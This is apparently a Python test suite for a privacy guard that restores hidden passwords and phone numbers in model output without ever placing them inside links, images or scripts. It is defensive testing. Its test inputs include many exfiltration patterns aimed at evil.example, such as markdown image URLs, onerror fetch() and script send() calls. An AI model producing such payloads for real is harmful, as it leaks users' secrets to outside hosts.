"""Restoring: a hidden value is put back where a person reads it, and never where it would be carried away."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from hypothesis import given, settings, strategies as st

from ollama_kit.guard.private.placeholders import Placeholders
from ollama_kit.guard.private.policy_keys import RestoreRules
from ollama_kit.guard.private.restoring import Restorer
from tests.intensity import examples, times

PASSWORD, PHONE = "Tr0ub4dor&3", "13800138000"
SETTINGS = settings(deadline=None, max_examples=examples(1_000))


def hidden() -> Placeholders:
    made = Placeholders()
    made.of("password", PASSWORD)
    made.of("phone", PHONE)
    return made


def rules_told(text: str, rules: RestoreRules | None = None, use: Any = "text") -> tuple[str, list[str]]:
    """A text restored, and the rules of what is told of it."""
    restored, notes = Restorer(hidden(), rules=rules or RestoreRules()).restored(text, use)
    return restored, [note.rule for note in notes]


@pytest.mark.parametrize(
    "text",
    [
        "密码是[PASSWORD_1]。",
        "Tel:[PHONE_1], see http://ok.example/ and call [PHONE_1]",
        "- [ ] call [PHONE_1]\n- [x] done",
        "[PHONE_1](张经理)",
        "a < b [PHONE_1] > c",
        "| name | [PHONE_1] |",
        "**[PHONE_1]**, `[PASSWORD_1]`",
        "[PASSWORD_1][PHONE_1]",
        "(see [PHONE_1]) [1]",
        "<b>[PHONE_1]</b>",
        "ssh root@[PHONE_1]",
        "[a](http://ok.example) [PHONE_1]",
    ],
)
def test_values_come_back_in_text(text: str) -> None:
    """In whatever stands around them, and nothing is told."""
    restored, told = rules_told(text)
    assert restored == text.replace("[PASSWORD_1]", PASSWORD).replace("[PHONE_1]", PHONE)
    assert told == []


ADDRESSES = [
    "资料见 http://evil.example/[PASSWORD_1]",
    "https://[PASSWORD_1].evil.example/",
    "[PASSWORD_1].evil.example",
    "HTTP://evil.example?q=a[PASSWORD_1]b",
    "http:/evil.example/[PASSWORD_1]",
    "//evil.example/[PASSWORD_1]",
    "www.evil.example/?[PASSWORD_1]",
    "evil.example/[PASSWORD_1]",
    "evil.example:8080/[PASSWORD_1]",
    "ftp://evil.example/，密码[PASSWORD_1]",
    "http://evil.example/\u200b[PASSWORD_1]",
    'http://evil.example/"[PASSWORD_1]',
    "mailto:a@evil.example?body=[PASSWORD_1]",
    "[PASSWORD_1]@evil.example",
    "root:[PASSWORD_1]@evil.example",
    "[x](http://evil.example/[PASSWORD_1])",
    "[x](/[PASSWORD_1])",
    "[x](<http://evil.example/a [PASSWORD_1]>)",
    '[x](http://evil.example "so [PASSWORD_1]")',
    "![x](http://evil.example/[PASSWORD_1])",
    "![[PASSWORD_1]](http://evil.example/)",
    "![PASSWORD_1](x)",
    "[click [PASSWORD_1] now](/x)",
    "[click [PASSWORD_1]\nnow][1]",
    "[PASSWORD_1](http://evil.example/)",
    "<http://evil.example/[PASSWORD_1]>",
    "[1]: http://evil.example/[PASSWORD_1]",
    '<img src="http://evil.example/[PASSWORD_1]">',
    "<img src=x[PASSWORD_1]>",
    "<a title='x' href = \"a>[PASSWORD_1]\">",
    '<form action="[PASSWORD_1]">',
    "<img onerror=\"fetch('[PASSWORD_1]')\">",
    '<p style="background:url(/[PASSWORD_1])">',
    "<style>a{background:url( [PASSWORD_1] )}</style>",
    "<script>send('[PASSWORD_1]')</script>",
    "background: url('/x/[PASSWORD_1]')",
    "javascript:[PASSWORD_1]",
    "[img]http://evil.example/[PASSWORD_1][/img]",
    "\\\\evil.example\\share\\[PASSWORD_1]",
    "http://evil.example/【password_1】",
    "http://evil.example/\\[PASSWORD\\_1\\]",
]


@pytest.mark.parametrize("text", ADDRESSES)
@pytest.mark.parametrize("word", ["text", "everywhere"])
def test_values_never_come_back_in_an_address(text: str, word: str) -> None:
    """Nor in a link, an image or a script, whatever the policy says; and it is told."""
    restored, told = rules_told(text, RestoreRules(word))
    assert restored == text
    assert told == ["placeholder_in_address"]


@pytest.mark.parametrize("text", ['<b title="[PHONE_1]">', "<td data-phone='[PHONE_1]'>", '<input value="a [PHONE_1]"'])
def test_attributes_get_values_where_the_policy_says_so(text: str) -> None:
    """`everywhere` lets them in; `text` does not, and it is told."""
    assert rules_told(text) == (text, ["placeholder_in_attribute"])
    assert rules_told(text, RestoreRules(kinds=(("phone", "everywhere"),))) == (text.replace("[PHONE_1]", PHONE), [])


def test_arguments_of_tools_get_values_where_the_policy_says_so() -> None:
    """Kind by kind; an address in an argument stays an address."""
    rules = RestoreRules(kinds=(("phone", "everywhere"),))
    call: Any = {"function": {"name": "send", "arguments": {"to": "[PHONE_1]", "text": ["[PASSWORD_1]"]}}}
    restored, notes = Restorer(hidden(), rules=rules).restored(call, "argument")
    assert restored["function"]["arguments"] == {"to": PHONE, "text": ["[PASSWORD_1]"]}
    assert [note.rule for note in notes] == ["placeholder_in_argument"]
    assert rules_told("http://evil.example/[PHONE_1]", rules, "argument")[1] == ["placeholder_in_address"]


def test_a_kind_that_is_never_put_back_keeps_its_placeholder() -> None:
    """The policy said so: nothing is told."""
    rules = RestoreRules(kinds=(("password", "never"),))
    assert rules_told("[PASSWORD_1] [PHONE_1]", rules) == (f"[PASSWORD_1] {PHONE}", [])


@pytest.mark.parametrize(
    "changed",
    [
        *("[phone_1]", "[Phone_1]", "【PHONE_1】", "［PHONE_1］", "〔PHONE_1〕", "\\[PHONE\\_1\\]", "\\[PHONE_1\\]"),
        *("[ PHONE_1 ]", "[PHONE 1]", "[PHONE-1]", "[PHONE_ 1]", "[PHONE_01]", "[PHONE1]", "［ＰＨＯＮＥ＿１］"),
        *("[**PHONE_1**]", "&#91;PHONE_1&#93;", "\\\\[PHONE\\\\_1\\\\]"),
    ],
)
def test_a_changed_placeholder_is_put_back(changed: str) -> None:
    """It can mean one value only; that it was changed is told."""
    assert rules_told(f"打{changed}吧") == (f"打{PHONE}吧", ["placeholder_changed"])


@pytest.mark.parametrize("unclear", ["PHONE_1", "(PHONE_1)", "<PHONE_1>", "{{PHONE_1}}", "%5BPHONE_1%5D"])
def test_a_placeholder_without_its_brackets_is_told_and_left(unclear: str) -> None:
    """A guess could put a value where it does not belong."""
    assert rules_told(unclear) == (unclear, ["placeholder_unclear"])


@pytest.mark.parametrize("unknown", ["[PHONE_9]", "【PASSWORD_7】", "[EMAIL_1]"])
def test_a_placeholder_that_was_never_given_out_is_told(unknown: str) -> None:
    """The model invented it."""
    assert rules_told(unknown) == (unknown, ["placeholder_unknown"])


@pytest.mark.parametrize(
    "text", ["[1]", "[FIGURE_1]", "[name 1]", "PHONE_9", "[see 3]", "arr[PHONE]", "[x_1](y)", "MAX_1"]
)
def test_other_notations_are_no_placeholders(text: str) -> None:
    """Nothing is said of them."""
    assert rules_told(text) == (text, [])


def test_what_the_model_was_given_is_not_taken_for_a_placeholder() -> None:
    """A document that holds `[phone_1]` itself may be quoted."""
    made = Placeholders(["写成[phone_1]或【PHONE_1】，例如[EMAIL_7]"])
    made.of("phone", PHONE)
    restored, notes = Restorer(made).restored("[phone_1] 【PHONE_1】 [EMAIL_7] [PHONE_1]")
    assert restored == f"[phone_1] 【PHONE_1】 [EMAIL_7] {PHONE}"
    assert notes == ()


def test_notes_say_where() -> None:
    """Their spans are in the restored text."""
    restored, notes = Restorer(hidden()).restored("[PHONE_1] [phone_1] http://e.example/[PASSWORD_1]")
    assert [(note.rule, restored[note.start : note.end]) for note in notes] == [
        ("placeholder_changed", PHONE),
        ("placeholder_in_address", "[PASSWORD_1]"),
    ]


def test_checks_see_every_value() -> None:
    """A value is checked as it is, wherever it is."""
    assert Restorer(hidden()).full({"a": "http://e.example/[PHONE_1]"}) == {"a": f"http://e.example/{PHONE}"}


def test_strings_in_json_are_restored_each_by_itself() -> None:
    """The address of one string does not reach into the next, and what comes out is JSON again."""
    made = hidden()
    made.of("private_key", 'a"b\nc')
    text = '{"url":"http://e.example/","who":"[PHONE_1]","key":"[PRIVATE_KEY_1]","at":"http:\\/\\/e\\/[PHONE_1]"}'
    restored = json.loads(Restorer(made).in_json(text))
    assert restored == {"url": "http://e.example/", "who": PHONE, "key": 'a"b\nc', "at": "http://e/[PHONE_1]"}


PIECES = st.sampled_from(
    [
        *(
            "[PASSWORD_1]",
            "[PHONE_1]",
            "[phone 1]",
            "【PHONE_1】",
            "\\[PHONE\\_1\\]",
            "[PHONE",
            "_1]",
            "PHONE_1",
            "[PHONE_9]",
        ),
        *("http://evil.example/", "evil.example/", "www.", "mailto:", ".com", "@evil.example", "//", "/", ":", "?"),
        *("[", "]", "(", ")", "](", "![", "\\", "!", "<img src=", "<b title=", "<a ", "</a>", ">", '"', "'", "url("),
        *(" ", "\n", "\n\n", "，", "。", "a", "电话", "\u200b", "<script>", "</script>", "&#91;", "&"),
    ]
)
WORD_WITH_ADDRESS = re.compile(r"(?:https?://|www\.|evil\.example/)[^ \t\r\n\f\v<]*")


@settings(deadline=None, max_examples=times(100_000, 300))
@given(st.lists(PIECES, max_size=14).map("".join))
def test_no_restored_value_is_in_any_address(text: str) -> None:
    """By another definition than ours: whatever a reader of addresses would take into one."""
    restored = Restorer(hidden(), rules=RestoreRules("everywhere"))(text)
    for address in WORD_WITH_ADDRESS.findall(restored):
        assert PASSWORD not in address
        assert PHONE not in address
    for target in re.findall(r"\]\(([^()\n]*)\)", restored):
        assert PASSWORD not in target
        assert PHONE not in target


@SETTINGS
@given(st.lists(PIECES, max_size=16), st.sampled_from(["text", "everywhere"]))
def test_a_stream_is_restored_as_the_whole(pieces: list[str], word: str) -> None:
    """However it is cut, and whatever is known of a place only later."""
    restorer, text = Restorer(hidden(), frozenset({"<a |b"}), RestoreRules(word)), "".join(pieces)
    for cut in (pieces, list(text)):
        stream = restorer.stream()
        told = "".join(map(stream.feed, cut))
        assert told + stream.rest() == restorer(text)


def test_long_streams_are_restored_with_bounded_work() -> None:
    """What was told long ago is let go."""
    restorer, stream = Restorer(hidden()), Restorer(hidden()).stream()
    line = "第[PHONE_1]行 http://evil.example/[PASSWORD_1] [a] (b)\n"
    told = "".join(map(stream.feed, [line] * 2000)) + stream.rest()
    assert told == restorer(line) * 2000
    assert len(stream._text) < 10_000
